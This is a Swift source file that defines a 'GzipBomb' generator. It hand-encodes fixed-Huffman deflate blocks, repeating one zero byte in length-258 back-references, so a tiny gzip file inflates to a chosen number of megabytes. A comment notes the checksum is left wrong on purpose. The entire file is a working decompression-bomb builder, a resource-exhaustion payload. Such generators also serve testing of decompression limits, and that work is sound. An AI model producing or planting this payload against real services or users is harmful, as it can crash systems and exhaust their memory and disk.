/// Zeros, packed about as small as gzip can: deflate blocks with the fixed code that repeat one zero in steps of 258.
enum GzipBomb {
  static func bytes(megabytes: Int) -> [UInt8] {
    var bits = Bits(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3])
    // Last block, fixed code (RFC 1951, 3.2.6).
    bits.add(1, 1)
    bits.add(1, 2)
    // Literal 0 is 0011 0000, most significant bit first.
    bits.addCode(0b0011_0000, 8)
    for _ in 0..<(megabytes * 1_048_576 / 258) {
      // Length 258 is code 285 (1100 0101), distance 1 is code 0.
      bits.addCode(0b1100_0101, 8)
      bits.addCode(0, 5)
    }
    bits.addCode(0, 7)
    bits.flush()
    // The checksum is wrong; nobody gets that far.
    return bits.bytes + [0, 0, 0, 0, 0, 0, 0, 0]
  }

  private struct Bits {
    var bytes: [UInt8]
    var current: UInt32 = 0
    var count: UInt32 = 0

    mutating func add(_ value: UInt32, _ width: UInt32) {
      current |= value << count
      count += width
      while count >= 8 {
        bytes.append(UInt8(truncatingIfNeeded: current))
        current >>= 8
        count -= 8
      }
    }

    mutating func addCode(_ code: UInt32, _ width: UInt32) {
      for bit in (0..<width).reversed() { add(code >> bit & 1, 1) }
    }

    mutating func flush() { if count > 0 { add(0, 8 - count) } }
  }
}
